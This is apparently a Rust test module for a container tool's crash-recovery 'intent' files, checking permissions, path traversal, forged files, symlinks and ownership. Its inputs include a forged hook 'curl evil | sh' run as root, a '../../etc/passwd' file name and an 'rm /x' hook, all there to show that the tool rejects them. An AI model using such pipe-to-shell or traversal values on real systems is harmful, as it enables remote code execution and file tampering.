use std::io::{BufRead, BufReader};
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};
use std::time::Duration;

use holdfast_tests::process::Process;

use super::*;
use crate::labels::{Hooks, Mode};

/// Set in a process that has to write an intent and wait for its death.
const CHILD: &str = "HOLDFAST_TEST_INTENT_FOLDER";

fn step(name: &str) -> QuietStep {
    QuietStep {
        id: format!("id-{name}"),
        name: name.to_owned(),
        action: Mode::Stop,
        stop_timeout: Some(Duration::from_millis(2500)),
        started_at: "2026-01-01T00:00:00Z".to_owned(),
        hooks: Hooks {
            after: Some("rm /x".to_owned()),
            ..Hooks::default()
        },
    }
}

fn intent(covers: &str) -> Intent {
    Intent::new("0190-run", covers, &[step("app"), step("db")])
}

/// Returns the intent as a successor finds it.
fn on_disk(mut intent: Intent) -> Intent {
    for entry in &mut intent.containers {
        entry.step.hooks = Hooks::default();
    }
    intent
}

fn files(state_dir: &Path) -> Vec<String> {
    let entries = std::fs::read_dir(folder(state_dir)).unwrap();
    let mut names: Vec<_> = entries
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    names
}

fn one(mut found: Vec<Result<Held, IntentError>>) -> Held {
    assert_eq!(found.len(), 1);
    found.remove(0).unwrap()
}

#[test]
fn an_intent_is_found_only_when_its_owner_has_let_go_of_it() {
    let dir = tempfile::tempdir().unwrap();
    assert_eq!(abandoned(dir.path()).unwrap().len(), 0);
    let mut held = Held::write(dir.path(), intent("group shop")).unwrap();
    assert_eq!(files(dir.path()), ["0190-run-group-shop.json"]);
    let mode = std::fs::metadata(folder(dir.path()).join("0190-run-group-shop.json"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);
    assert_eq!(abandoned(dir.path()).unwrap().len(), 0);
    held.note(|intent| intent.containers[1].touched = true).unwrap();
    assert_eq!(abandoned(dir.path()).unwrap().len(), 0);
    let written = held.intent().clone();
    drop(held);
    let found = one(abandoned(dir.path()).unwrap());
    assert_eq!(*found.intent(), on_disk(written));
    assert!(found.is_adopted());
    assert!(found.intent().containers[1].touched && !found.intent().containers[0].touched);
    assert_eq!(abandoned(dir.path()).unwrap().len(), 0, "it has an owner again");
    found.remove().unwrap();
    assert_eq!(files(dir.path()).len(), 0);
}

/// Runs once as the test, and once more as the child process that the test kills.
#[test]
fn an_intent_outlives_its_killed_owner() {
    if let Some(dir) = std::env::var_os(CHILD) {
        let held = Held::write(Path::new(&dir), intent("volume files"));
        println!("written: {}", held.is_ok());
        // Ends with the parent, if the child is not killed before.
        let _ = std::io::stdin().lines().next();
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let mut command = Command::new(std::env::current_exe().unwrap());
    command.args([
        "--exact",
        "intent::tests::an_intent_outlives_its_killed_owner",
        "--nocapture",
    ]);
    command
        .env(CHILD, dir.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped());
    let mut owner = Process::spawn("the owner", &mut command).unwrap();
    let mut lines = BufReader::new(owner.take_stdout().unwrap()).lines();
    assert!(lines.any(|line| line.unwrap().ends_with("written: true")));
    assert_eq!(abandoned(dir.path()).unwrap().len(), 0);
    owner.kill();
    let found = one(abandoned(dir.path()).unwrap());
    assert_eq!(*found.intent(), on_disk(intent("volume files")));
}

#[test]
fn an_intent_that_is_no_intent_stays_and_holds_no_other_up() {
    let dir = tempfile::tempdir().unwrap();
    drop(Held::write(dir.path(), intent("group good")).unwrap());
    let folder = folder(dir.path());
    std::fs::write(folder.join("a.json"), "{").unwrap();
    std::fs::write(folder.join("b.json"), r#"{"version": 9, "what": "ever"}"#).unwrap();
    std::fs::write(folder.join("c.json.77.unfinished"), "{").unwrap();
    std::fs::write(folder.join("turn.lock"), "").unwrap();
    let found = abandoned(dir.path()).unwrap();
    let texts: Vec<_> = found
        .iter()
        .map(|one| match one {
            Ok(held) => held.intent().covers.clone(),
            Err(error) => holdfast_fault::chain(error).to_string(),
        })
        .collect();
    assert_eq!(texts.len(), 3);
    assert_eq!(texts[0], "group good");
    assert!(
        texts[1].contains("a.json: containers that it names may have to be started by hand"),
        "{}",
        texts[1]
    );
    assert!(
        texts[2].contains("it is of version 9; this Holdfast knows version 2"),
        "{}",
        texts[2]
    );
    drop(found);
    assert_eq!(
        files(dir.path()),
        ["0190-run-group-good.json", "a.json", "b.json", "turn.lock"]
    );
}

#[test]
fn a_second_intent_of_the_same_name_takes_no_others_place() {
    let dir = tempfile::tempdir().unwrap();
    let first = Held::write(dir.path(), intent("group shop")).unwrap();
    let second = Held::write(dir.path(), intent("group shop")).unwrap();
    assert_eq!(
        files(dir.path()),
        ["0190-run-group-shop.2.json", "0190-run-group-shop.json"]
    );
    drop((first, second));
    assert_eq!(abandoned(dir.path()).unwrap().len(), 2);
}

#[test]
fn no_name_leaves_the_folder() {
    let dir = tempfile::tempdir().unwrap();
    let long = "v".repeat(255);
    let names = ["../../etc/passwd", ".", "a/b", "ä\n", &long, "", " "];
    for name in names {
        let mut made = intent(&format!("volume {name}"));
        made.run = "../x".to_owned();
        drop(Held::write(dir.path(), made).unwrap());
    }
    assert_eq!(files(dir.path()).len(), names.len());
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
    assert_eq!(
        abandoned(dir.path()).unwrap().into_iter().filter(Result::is_ok).count(),
        names.len()
    );
}

#[test]
fn a_folder_that_cannot_be_written_to_is_named() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("quiet"), "").unwrap();
    let error = Held::write(dir.path(), intent("group shop")).unwrap_err();
    assert!(error.to_string().contains("quiet/0190-run-group-shop.json"), "{error}");
}

#[test]
fn no_command_is_written_to_disk_or_read_from_there() {
    let dir = tempfile::tempdir().unwrap();
    drop(Held::write(dir.path(), intent("group shop")).unwrap());
    let path = folder(dir.path()).join("0190-run-group-shop.json");
    let written = std::fs::read_to_string(&path).unwrap();
    assert!(!written.contains("rm /x") && !written.contains("hooks"), "{written}");
    // A file of the version before, or of somebody else.
    let mut forged: serde_json::Value = serde_json::from_str(&written).unwrap();
    forged["version"] = 1.into();
    forged["containers"][0]["hooks"] = serde_json::json!({
        "before": null, "after": "curl evil | sh", "user": "root", "timeout": {"secs": 60, "nanos": 0}, "on_failure": "fail",
    });
    forged["containers"][0]["hooked"] = true.into();
    std::fs::write(&path, forged.to_string()).unwrap();
    let found = one(abandoned(dir.path()).unwrap());
    assert!(found.intent().containers[0].hooked);
    assert_eq!(found.intent().containers[0].step.hooks, Hooks::default());
}

#[test]
fn what_others_could_have_written_is_refused_and_told() {
    let changed = |what: &Path, mode: u32| {
        std::fs::set_permissions(what, std::fs::Permissions::from_mode(mode)).unwrap();
    };
    let dir = tempfile::tempdir().unwrap();
    drop(Held::write(dir.path(), intent("group shop")).unwrap());
    let quiet = folder(dir.path());
    let file = quiet.join("0190-run-group-shop.json");
    for mode in [0o777, 0o1777, 0o770, 0o702] {
        changed(&quiet, mode);
        assert!(is_any(dir.path()), "somebody must hear of it");
        let why = holdfast_fault::chain(&abandoned(dir.path()).unwrap_err()).to_string();
        assert!(why.contains("others can write to it"), "{why}");
        let refused = Held::write(dir.path(), intent("group other")).unwrap_err();
        let why = holdfast_fault::chain(&refused).to_string();
        assert!(why.contains("others can write to it"), "{why}");
    }
    changed(&quiet, 0o755);
    changed(&file, 0o666);
    let found = abandoned(dir.path()).unwrap();
    assert!(matches!(found.as_slice(), [Err(IntentError::Read { .. })]), "{found:?}");
    changed(&file, 0o644);
    drop(one(abandoned(dir.path()).unwrap()));
    // A folder somewhere else, under our name.
    let elsewhere = dir.path().join("elsewhere");
    std::fs::rename(&quiet, &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &quiet).unwrap();
    let why = holdfast_fault::chain(&abandoned(dir.path()).unwrap_err()).to_string();
    assert!(why.contains("it is a link"), "{why}");
    if rustix::process::geteuid().is_root() {
        std::fs::remove_file(&quiet).unwrap();
        std::fs::rename(&elsewhere, &quiet).unwrap();
        std::os::unix::fs::chown(&quiet, Some(10_001), None).unwrap();
        let why = holdfast_fault::chain(&abandoned(dir.path()).unwrap_err()).to_string();
        assert!(why.contains("it belongs to user 10001, and this is user 0"), "{why}");
    }
}
